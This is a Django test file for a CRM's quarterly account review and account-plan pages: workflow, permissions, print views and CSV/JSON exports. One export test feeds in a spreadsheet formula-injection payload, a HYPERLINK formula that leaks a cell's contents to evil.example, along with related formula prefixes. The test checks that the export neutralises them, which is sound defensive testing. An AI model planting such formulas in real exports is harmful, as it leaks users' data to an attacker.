"""The review and account-plan pages: forms, services and what each page shows."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from core.dates import Quarter
from core.formats import format_day
from interactions.models import FollowUp
from reviews import services
from reviews.models import AccountPlan, AccountReview, ReviewStatus
from reviews.tests.builders import HELD_ON, QUARTER, TODAY, held_review, plan_review, prepared_review
from tests.factories import ClientFactory

pytestmark = pytest.mark.django_db


def _items_management(total=3):
    return {"items-TOTAL_FORMS": str(total), "items-INITIAL_FORMS": "0", "items-MIN_NUM_FORMS": "0"}


class TestReviewFlow:
    def test_plan_prepare_hold_assign_close_through_the_pages(self, client, am_alice, am_bob, alice_client):
        client.force_login(am_alice)
        today = timezone.localdate()
        current = Quarter.containing(today)
        dora = alice_client.contacts.get()
        page = client.get(reverse("reviews:plan", args=[alice_client.pk]) + f"?quarter={current.key}")
        assert page.status_code == 200 and f'value="{current.key}" selected' in page.content.decode()

        response = client.post(
            reverse("reviews:plan", args=[alice_client.pk]),
            {"period": current.key, "planned_on": today.isoformat(), "contacts": [dora.pk], "colleagues": [am_bob.pk]},
        )
        review = AccountReview.objects.get()
        assert response.status_code == 302 and response.url == reverse("reviews:detail", args=[review.pk])
        assert (review.year, review.quarter, list(review.contacts.all())) == (current.year, current.quarter, [dora])

        again = client.post(
            reverse("reviews:plan", args=[alice_client.pk]), {"period": current.key, "planned_on": today.isoformat()}
        )
        assert f"Nordwind Logistics already has a {current.label} review (planned)." in again.content.decode()
        preview = client.get(reverse("reviews:prepare", args=[review.pk]))
        assert "Preview (live data, not saved yet)" in preview.content.decode()
        assert AccountReview.objects.get().snapshot == {}
        client.post(reverse("reviews:prepare", args=[review.pk]), {"version": review.version})
        review.refresh_from_db()
        assert review.status == ReviewStatus.PREPARED and review.snapshot["period"]["quarter"] == current.key

        hold_page = client.get(reverse("reviews:hold", args=[review.pk]))
        body = hold_page.content.decode()
        assert 'aria-label="What (action item 1)"' in body and 'aria-label="Owner (action item 3)"' in body
        assert f'name="held_on" value="{today.isoformat()}"' in body  # held as planned, unless changed
        response = client.post(
            reverse("reviews:hold", args=[review.pk]),
            {
                "version": review.version,
                "held_on": today.isoformat(),
                "satisfaction": "8",
                "wins": "Second warehouse live",
                "issues": "",
                "goals_progress": "",
                "next_quarter_plan": "Pilot the returns module",
                **_items_management(),
                "items-0-title": "Send the usage report",
                "items-0-owner": am_bob.pk,
                "items-0-due_date": (today + dt.timedelta(days=5)).isoformat(),
                "items-1-title": "Pick the trainer",
                "items-1-owner": "",
                "items-2-owner": am_alice.pk,  # an untouched extra row (owner preset) is ignored
            },
        )
        assert response.status_code == 302, response.content.decode()[:2000]
        review.refresh_from_db()
        assert review.status == ReviewStatus.HELD and review.satisfaction == 8
        assert [i.title for i in review.action_items.all()] == ["Send the usage report", "Pick the trainer"]

        detail = client.get(reverse("reviews:detail", args=[review.pk])).content.decode()
        assert "1 unassigned" in detail and "Assign “Pick the trainer”" in detail
        close_page = client.get(reverse("reviews:close", args=[review.pk])).content.decode()
        assert "1 action item still without an owner" in close_page and "disabled" in close_page
        refused = client.post(reverse("reviews:close", args=[review.pk]), {"version": review.version}, follow=True)
        assert "still without an owner" in refused.content.decode()

        pending = review.action_items.get(title="Pick the trainer")
        prefix = f"assign-{pending.pk}"
        client.post(
            reverse("reviews:action_item_assign", args=[review.pk, pending.pk]),
            {f"{prefix}-owner": am_alice.pk, f"{prefix}-due_date": (today + dt.timedelta(days=3)).isoformat()},
        )
        assert FollowUp.objects.filter(title="Pick the trainer", owner=am_alice).exists()
        review.refresh_from_db()
        closed = client.post(reverse("reviews:close", args=[review.pk]), {"version": review.version}, follow=True)
        assert "review closed." in closed.content.decode()
        assert AccountReview.objects.get().status == ReviewStatus.CLOSED

    def test_hold_form_errors_stay_on_the_page(self, client, am_alice, alice_client):
        review = prepared_review(alice_client, am_alice)
        client.force_login(am_alice)
        response = client.post(
            reverse("reviews:hold", args=[review.pk]),
            {
                "version": review.version,
                "held_on": (timezone.localdate() + dt.timedelta(days=3)).isoformat(),
                "satisfaction": "12",
                **_items_management(),
                "items-0-title": "Promise without a tick",
                "items-0-promised_date": "2030-01-01",
            },
        )
        body = response.content.decode()
        assert response.status_code == 200
        assert "Satisfaction is from 1 to 10." in body
        assert "Tick this when a date was promised to the client." in body
        assert AccountReview.objects.get().status == ReviewStatus.PREPARED

        response = client.post(
            reverse("reviews:hold", args=[review.pk]),
            {
                "version": review.version,
                "held_on": (timezone.localdate() + dt.timedelta(days=3)).isoformat(),
                "satisfaction": "7",
                **_items_management(),
            },
        )
        assert "That date is in the future." in response.content.decode()
        stale = client.post(
            reverse("reviews:hold", args=[review.pk]),
            {"version": review.version - 1, "held_on": HELD_ON.isoformat(), **_items_management()},
        )
        assert "changed by someone else" in stale.content.decode()

    def test_teammates_read_but_cannot_act(self, client, am_bob, am_alice, alice_client):
        review = prepared_review(alice_client, am_alice)
        client.force_login(am_bob)
        detail = client.get(reverse("reviews:detail", args=[review.pk])).content.decode()
        assert "Read-only" in detail and reverse("reviews:hold", args=[review.pk]) not in detail
        assert client.get(reverse("reviews:hold", args=[review.pk])).status_code == 403
        assert client.post(reverse("reviews:prepare", args=[review.pk]), {"refresh": "1"}).status_code == 403
        assert client.get(reverse("reviews:plan", args=[alice_client.pk])).status_code == 403


def _chart_data(body: str) -> dict:
    return json.loads(body.split('id="review-chart-data" type="application/json">')[1].split("</script>")[0])


class TestPrintAndExport:
    def test_print_page_has_kpis_charts_data_and_action_items(self, client, am_alice, quarter_data):
        review = held_review(
            quarter_data,
            am_alice,
            satisfaction=8,
            action_items=[{"title": "Send the usage report", "owner": am_alice, "due_date": dt.date(2025, 10, 20)}],
        )
        client.force_login(am_alice)
        response = client.get(reverse("reviews:print", args=[review.pk]))
        body = response.content.decode()
        assert response.status_code == 200
        assert 'id="kpi-table"' in body and "Orders" in body and "1,104" in body and "+21.3%" in body
        assert "Send the usage report" in body and format_day(dt.date(2025, 10, 20)) in body  # "Oct. 20, 2025"
        assert "<script>" not in body  # strict CSP: data only, drawn by static/js/reviews.js
        data = _chart_data(body)
        assert data["health"] == []  # client-facing by default: the internal health score is left out
        assert {c["name"]: c["verdict"] for c in data["changes"]} == {"Late deliveries": "worse", "Orders": "better"}
        assert "Sponsor may leave" not in body  # a private note never reaches a client-facing page
        included = client.get(reverse("reviews:print", args=[review.pk]), {"health": "1"}).content.decode()
        assert [p[1] for p in _chart_data(included)["health"]] == [70, 60]
        assert 'data-figure="health"' in included and 'data-figure="health"' not in body

    def test_print_leaves_out_internal_figures_unless_asked_and_shows_satisfaction_once(
        self, client, am_alice, quarter_data
    ):
        review = held_review(quarter_data, am_alice, satisfaction=8)
        review.snapshot["kpis"].append(
            {
                "key": "satisfaction",
                "name": "Satisfaction",
                "unit": "",
                "current": 6.0,
                "previous": 7.0,
                "change_pct": -14.3,
                "trend": "down",
                "verdict": "worse",
            }
        )
        review.save(update_fields=["snapshot"])
        client.force_login(am_alice)
        url = reverse("reviews:print", args=[review.pk])
        body = client.get(url).content.decode()
        assert "overdue" not in body.split('data-figure="commitments"')[1].split("</div>")[0]
        assert 'id="opt-health"' in body and 'id="opt-overdue"' in body and " checked" not in body
        # One source for satisfaction: the client's answer in this review; the KPI is not repeated beside it.
        assert body.count(">Satisfaction<") == 1 and "8</span>/10" in body
        assert "Satisfaction" not in body.split('id="kpi-table"')[1].split("</table>")[0]
        assert "Satisfaction" not in {c["name"] for c in _chart_data(body)["changes"]}
        both = client.get(url, {"health": "1", "overdue": "1"}).content.decode()
        assert "1 overdue" in both.split('data-figure="commitments"')[1].split("</div>")[0]
        assert 'id="opt-overdue" checked' in both

        review.satisfaction = None  # not asked in the meeting: the survey figure of the period, said so, once
        review.save(update_fields=["satisfaction"])
        body = client.get(url).content.decode()
        assert body.count(">Satisfaction<") == 1 and "6</span>/10" in body and "latest survey in the period" in body

    def test_csv_and_json_exports(self, client, am_alice, quarter_data):
        review = held_review(
            quarter_data, am_alice, wins="=HYPERLINK(evil)", action_items=[{"title": "Call IT", "owner": am_alice}]
        )
        client.force_login(am_alice)
        response = client.get(reverse("reviews:export_csv", args=[review.pk]))
        assert response["Content-Disposition"] == 'attachment; filename="review-nordwind-logistics-2025-Q3.csv"'
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert rows[0] == ["section", "item", "value", "previous", "change_pct", "trend", "detail"]
        orders = next(r for r in rows if r[:2] == ["kpi", "Orders"])
        assert orders[2:6] == ["1104.0", "910.0", "21.3", "up"]
        assert ["outcome", "wins", "'=HYPERLINK(evil)", "", "", "", ""] in rows  # no formula injection
        assert next(r for r in rows if r[0] == "action_item")[:2] == ["action_item", "Call IT"]
        assert ["commitments", "overdue", "1", "", "", "", ""] in rows

        exported = client.get(reverse("reviews:export_json", args=[review.pk]))
        assert exported["Content-Disposition"].endswith('2025-Q3.json"')
        data = json.loads(exported.content)
        assert data["label"] == "Q3 2025" and data["status"] == "held"
        assert data["snapshot"]["kpis"][1]["key"] == "orders"
        assert data["action_items"][0]["title"] == "Call IT" and data["action_items"][0]["is_assigned"] is True

    def test_csv_export_neutralises_a_formula_in_the_client_name_and_id(self, client, am_alice, quarter_data):
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
        review = held_review(quarter_data, am_alice, issues="-1+2", next_quarter_plan="@SUM(A1)")
        review.client.name, review.client.external_id = formula, "+CMD-1"
        review.client.save(update_fields=["name", "external_id"])
        client.force_login(am_alice)
        response = client.get(reverse("reviews:export_csv", args=[review.pk]))
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert ["review", "client", "'" + formula, "", "", "", "'+CMD-1"] in rows
        assert ["outcome", "issues", "'-1+2", "", "", "", ""] in rows
        assert ["outcome", "next_quarter_plan", "'@SUM(A1)", "", "", "", ""] in rows
        orders = next(r for r in rows if r[:2] == ["kpi", "Orders"])
        assert orders[2:5] == ["1104.0", "910.0", "21.3"]  # numbers stay numbers


class TestOverview:
    def test_statuses_counts_filters_and_key_accounts_first(self, client, am_alice, am_bob, lead_lena):
        today = timezone.localdate()
        current = Quarter.containing(today)
        mine = [
            ClientFactory(name=f"Alpha {i}", owner=am_alice, team=am_alice.team, is_key_account=(i == 3))
            for i in range(4)
        ]
        bobs = ClientFactory(name="Beta", owner=am_bob, team=am_bob.team)
        services.review_plan(client=mine[0], by=am_alice, year=current.year, quarter=current.quarter, planned_on=today)
        prepared = services.review_plan(
            client=mine[1], by=am_alice, year=current.year, quarter=current.quarter, planned_on=today
        )
        services.review_prepare(review=prepared, by=am_alice)
        services.review_plan(client=bobs, by=am_bob, year=current.year, quarter=current.quarter, planned_on=today)
        ClientFactory(name="Archived", owner=am_alice, team=am_alice.team, archived_at=timezone.now())

        client.force_login(am_alice)
        response = client.get(reverse("reviews:overview"))
        view = response.context["view"]
        assert [c.name for c in view.clients] == ["Alpha 3", "Alpha 0", "Alpha 1", "Alpha 2"]  # key first; own only
        assert {k: v for k, v in view.counts.items() if v} == {"planned": 1, "prepared": 1, "missing": 2, "total": 4}
        body = response.content.decode()
        assert f'aria-label="Plan the {current.label} review of Alpha 2"' in body

        missing = client.get(reverse("reviews:overview"), {"status": "missing", "quarter": current.key})
        assert [c.name for c in missing.context["view"].clients] == ["Alpha 3", "Alpha 2"]
        keys = client.get(reverse("reviews:overview"), {"key": "1"})
        assert [c.name for c in keys.context["view"].clients] == ["Alpha 3"]
        previous = client.get(reverse("reviews:overview"), {"quarter": current.previous().key})
        assert previous.context["view"].counts["missing"] == 4

        client.force_login(lead_lena)
        team = client.get(reverse("reviews:overview"))
        assert team.context["view"].counts["total"] == 5
        only_bob = client.get(reverse("reviews:overview"), {"owner": am_bob.pk})
        assert [c.name for c in only_bob.context["view"].clients] == ["Beta"]

    def test_a_bad_quarter_falls_back_to_the_current_one(self, client, am_alice):
        client.force_login(am_alice)
        response = client.get(reverse("reviews:overview"), {"quarter": "2026-Q9"})
        assert response.context["quarter"] == Quarter.containing(timezone.localdate())


class TestAccountPlanPages:
    def _management(self, prefix, total=2, initial=0):
        return {
            f"{prefix}-TOTAL_FORMS": str(total),
            f"{prefix}-INITIAL_FORMS": str(initial),
            f"{prefix}-MIN_NUM_FORMS": "0",
            f"{prefix}-MAX_NUM_FORMS": "30",
        }

    def _post(self, **rows):
        data = {"hypothesis": "We believe the returns module cuts their costs by 15%.", "currency": "eur"}
        for prefix in ("objectives", "opportunities", "stakeholders", "risks"):
            data.update(self._management(prefix))
        data.update(rows)
        return data

    def test_write_then_change_the_plan_and_see_what_changed_since_the_review(self, client, am_alice, alice_client):
        client.force_login(am_alice)
        dora = alice_client.contacts.get()
        url = reverse("reviews:account_plan_edit", args=[alice_client.pk])
        page = client.get(url).content.decode()
        assert 'aria-label="Objective (objective 1)"' in page and 'aria-label="Remove (risk 2)"' in page
        response = client.post(
            url,
            self._post(
                **{
                    "revenue_target": "250000",
                    "objectives-0-objective": "Cut returns handling cost",
                    "objectives-0-target": "-15%",
                    "objectives-0-status": "on_track",
                    "objectives-1-status": "on_track",  # untouched extra row
                    "opportunities-0-title": "Returns module",
                    "opportunities-0-kind": "upsell",
                    "opportunities-0-estimated_value": "24000",
                    "opportunities-0-stage": "qualified",
                    "stakeholders-0-contact": dora.pk,
                    "stakeholders-0-how": "Monthly usage call",
                    "risks-0-risk": "Budget freeze",
                    "risks-0-impact": "high",
                }
            ),
        )
        assert response.status_code == 302, response.content.decode()[:3000]
        plan = AccountPlan.objects.get()
        assert plan.currency == "EUR" and plan.objectives[0]["target"] == "-15%"
        assert plan.stakeholders[0]["who"] == "Dora Example"

        review = held_review(alice_client, am_alice)
        assert review.plan_history_id == plan.history.latest("history_id").history_id
        edit = client.get(url).content.decode()
        assert 'value="Cut returns handling cost"' in edit
        response = client.post(
            url,
            self._post(
                **{
                    **self._management("objectives", total=3, initial=1),
                    **self._management("risks", total=3, initial=1),
                    **self._management("opportunities", total=3, initial=1),
                    **self._management("stakeholders", total=3, initial=1),
                    "version": plan.version,
                    "opportunities-0-title": "Returns module",
                    "opportunities-0-kind": "upsell",
                    "opportunities-0-stage": "qualified",
                    "opportunities-0-DELETE": "on",
                    "stakeholders-0-contact": dora.pk,
                    "stakeholders-0-how": "Monthly usage call",
                    "revenue_target": "300000",
                    "objectives-0-objective": "Cut returns handling cost",
                    "objectives-0-target": "-15%",
                    "objectives-0-status": "at_risk",
                    "objectives-1-objective": "Second region live",
                    "objectives-1-status": "not_started",
                    "risks-0-risk": "Budget freeze",
                    "risks-0-impact": "high",
                    "risks-0-DELETE": "on",
                }
            ),
        )
        assert response.status_code == 302
        detail = client.get(reverse("reviews:account_plan", args=[alice_client.pk])).content.decode()
        assert "Changed since the Q3 2025 review" in detail
        for text in (
            "Revenue target</strong>: 250,000 → 300,000",
            "Cut returns handling cost: status On track → At risk",
            "Objectives</strong>: Second region live",
            "Risks</strong>: Budget freeze",
            "Growth opportunities</strong>: Returns module",  # ticked for removal
        ):
            assert text in detail, text
        history = client.get(reverse("reviews:account_plan_history", args=[alice_client.pk])).content.decode()
        assert "Q3 2025 review" in history and "300,000" in history

    def test_row_errors_are_shown_next_to_the_row(self, client, am_alice, alice_client):
        client.force_login(am_alice)
        response = client.post(
            reverse("reviews:account_plan_edit", args=[alice_client.pk]),
            self._post(
                **{
                    "objectives-0-target": "-15%",
                    "objectives-0-status": "on_track",
                    "stakeholders-0-how": "Lunch",
                    "opportunities-0-title": "Module",
                    "opportunities-0-estimated_value": "-3",
                    "opportunities-0-kind": "upsell",
                    "opportunities-0-stage": "identified",
                }
            ),
        )
        body = response.content.decode()
        assert response.status_code == 200
        assert "This field is required." in body
        assert "Choose a contact or write who it is." in body
        assert "Ensure this value is greater than or equal to 0." in body
        assert not AccountPlan.objects.exists()

    def test_stale_plan_form_is_refused(self, client, am_alice, alice_client):
        plan = services.account_plan_save(client=alice_client, by=am_alice, expected_version=None, hypothesis="A")
        services.account_plan_save(client=alice_client, by=am_alice, expected_version=1, hypothesis="B")
        client.force_login(am_alice)
        response = client.post(
            reverse("reviews:account_plan_edit", args=[alice_client.pk]), self._post(version=plan.version)
        )
        assert "changed by someone else" in response.content.decode()
        assert AccountPlan.objects.get().hypothesis == "B"

    def test_revisit_and_read_only_for_teammates(self, client, am_alice, am_bob, alice_client):
        services.account_plan_save(
            client=alice_client, by=am_alice, expected_version=None, hypothesis="A", today=dt.date(2025, 1, 1)
        )
        client.force_login(am_bob)
        page = client.get(reverse("reviews:account_plan", args=[alice_client.pk])).content.decode()
        assert "due for a revisit" in page and "Mark revisited" not in page
        assert client.post(reverse("reviews:account_plan_revisit", args=[alice_client.pk])).status_code == 403
        assert client.get(reverse("reviews:account_plan_edit", args=[alice_client.pk])).status_code == 403
        client.force_login(am_alice)
        client.post(reverse("reviews:account_plan_revisit", args=[alice_client.pk]), {"version": 1})
        assert AccountPlan.objects.get().last_revisited_on == timezone.localdate()


def test_client_page_panel_shows_the_quarter_and_the_plan(client, am_alice, alice_client):
    client.force_login(am_alice)
    page = client.get(reverse("clients:detail", args=[alice_client.pk])).content.decode()
    current = Quarter.containing(timezone.localdate())
    assert f"{current.label} review:" in page and "Plan review" in page and "No account plan yet." in page

    review = plan_review(alice_client, am_alice, quarter=current, planned_on=timezone.localdate())
    held_review(alice_client, am_alice, action_items=[{"title": "Pick the trainer"}])
    services.account_plan_save(
        client=alice_client,
        by=am_alice,
        expected_version=None,
        revenue_target="250000",
        objectives=[{"objective": "A", "status": "on_track"}, {"objective": "B", "status": "at_risk"}],
    )
    page = client.get(reverse("clients:detail", args=[alice_client.pk])).content.decode()
    assert reverse("reviews:prepare", args=[review.pk]) in page
    assert "Q3 2025" in page and "1 unassigned" in page
    assert "Target 250,000 EUR" in page and "1 on track, 1 at risk" in page
    assert QUARTER.label != current.label and timezone.localdate() > TODAY


def test_reviews_appear_on_the_client_timeline(client, am_alice, alice_client):
    from core.dates import Quarter

    quarter = Quarter.containing(timezone.localdate())
    review = services.review_plan(
        client=alice_client, by=am_alice, year=quarter.year, quarter=quarter.quarter, planned_on=timezone.localdate()
    )
    client.force_login(am_alice)
    page = client.get(f"/clients/{alice_client.pk}/timeline/?kind=review").context["timeline"]
    assert [(e.kind, e.url) for e in page.entries] == [("review", f"/reviews/{review.pk}/")]
